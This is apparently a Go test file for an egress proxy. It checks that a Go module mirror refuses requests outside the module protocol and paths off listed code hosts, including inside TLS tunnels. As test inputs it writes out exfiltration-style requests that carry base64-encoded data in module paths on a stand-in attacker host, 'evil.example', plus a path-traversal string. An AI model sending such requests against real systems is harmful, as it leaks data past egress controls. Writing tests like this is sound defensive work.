package egress

import (
	"net/http"
	"testing"
)

// TestGoProxyCannotFetchArbitraryOrigins: on a Go mirror host the proxy
// admits only the module protocol, and only for module paths the mirror
// will not fetch from an origin the request names — under a listed code
// host, or sent to /cached-only where the operator's mirror has it; the
// checksum database is asked only about module versions the mirror served
// in this episode; and the host is never reached through a tunnel, where
// none of this could be read. Refused requests never reach the upstream.
func TestGoProxyCannotFetchArbitraryOrigins(t *testing.T) {
	s := openStore(t)
	up := newUpstream(t, func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/golang.org/x/m/@v/v1.0.0.mod", "/cached-only/golang.org/x/m/@v/v1.0.0.mod":
			w.Write([]byte("module golang.org/x/m\n"))
		case "/sumdb/sum.golang.org/lookup/golang.org/x/m@v1.0.0", "/sumdb/sum.golang.org/latest", "/golang.org/x/m/@v/list":
			w.Write([]byte("ok\n"))
		default:
			http.NotFound(w, r)
		}
	})
	for _, mode := range []Registry{GoProxy, GoProxyCachedOnly} {
		t.Run(string(mode), func(t *testing.T) {
			cfg := up.config("example.com")
			cfg.Registries = map[string]Registry{"example.com": mode}
			cfg.GoCodeHosts = []string{"golang.org"}
			r := start(t, s, cfg)
			c := client(r.url)
			before := up.hits.Load()
			for _, p := range []string{
				"/evil.example/x", // not the protocol
				"/golang.org/x/m/@v/v1.0.0.zip/../../secret",
				"/golang.org/x/m/@v/v1.0.0.tar",
				"/golang.org/x/m/@v/list?go-get=1",
				"/sumdb/sum.golang.org/lookup/evil.example/c2vjcmv0@v1.0.0", // never served: the database would fetch it
				"/sumdb/sum.golang.org/lookup/golang.org/x/m@v1.0.0",        // not served yet either
				"/sumdb/other.example/lookup/golang.org/x/m@v1.0.0",
			} {
				if code, body, _ := get(t, c, "http://example.com"+p); code != http.StatusForbidden {
					t.Errorf("%s: %d %s, want 403", p, code, body)
				}
			}
			// The attack itself: data in the path of a module on the
			// attacker's host.
			attack := "http://example.com/evil.example/c2vjcmv0/@v/list"
			code, _, _ := get(t, c, attack)
			switch mode {
			case GoProxy:
				if code != http.StatusForbidden {
					t.Errorf("a module path off the code hosts: %d, want 403", code)
				}
			case GoProxyCachedOnly:
				if up.count("/cached-only/evil.example/c2vjcmv0/@v/list") != 1 || up.count("/evil.example/c2vjcmv0/@v/list") != 0 {
					t.Errorf("the attacker's module path reached the mirror outside /cached-only")
				}
			}
			if n := up.hits.Load() - before; (mode == GoProxy && n != 0) || (mode == GoProxyCachedOnly && n != 1) {
				t.Errorf("refused requests reached the upstream: %d hits", n)
			}
			// The protocol works: list, .mod, then the lookup the .mod's
			// success admits, and the database's latest.
			for _, p := range []string{"/golang.org/x/m/@v/v1.0.0.mod", "/sumdb/sum.golang.org/lookup/golang.org/x/m@v1.0.0", "/sumdb/sum.golang.org/latest"} {
				if code, body, _ := get(t, c, "http://example.com"+p); code != http.StatusOK {
					t.Errorf("%s: %d %s", p, code, body)
				}
			}
			// Inside a terminated tunnel the mirror's rules are the same.
			tc := tunnelClient(r)
			resp, err := tc.Get("https://example.com/evil.example/c2vjcmv0/@v/list")
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			switch mode {
			case GoProxy:
				if resp.StatusCode != http.StatusForbidden {
					t.Errorf("the attack inside TLS: %d, want 403", resp.StatusCode)
				}
			case GoProxyCachedOnly:
				if up.count("/cached-only/evil.example/c2vjcmv0/@v/list") != 2 || up.count("/evil.example/c2vjcmv0/@v/list") != 0 {
					t.Errorf("inside TLS the attacker's module path reached the mirror outside /cached-only")
				}
			}
			tc.CloseIdleConnections()
			r.p.Close()
			refused := 0
			for _, f := range r.ledger(t, s) {
				if f.Outcome == "refused" {
					refused++
				}
			}
			if want := 7 + map[Registry]int{GoProxy: 2}[mode]; refused != want {
				t.Errorf("%d refusals in the ledger, want %d", refused, want)
			}
		})
	}
}
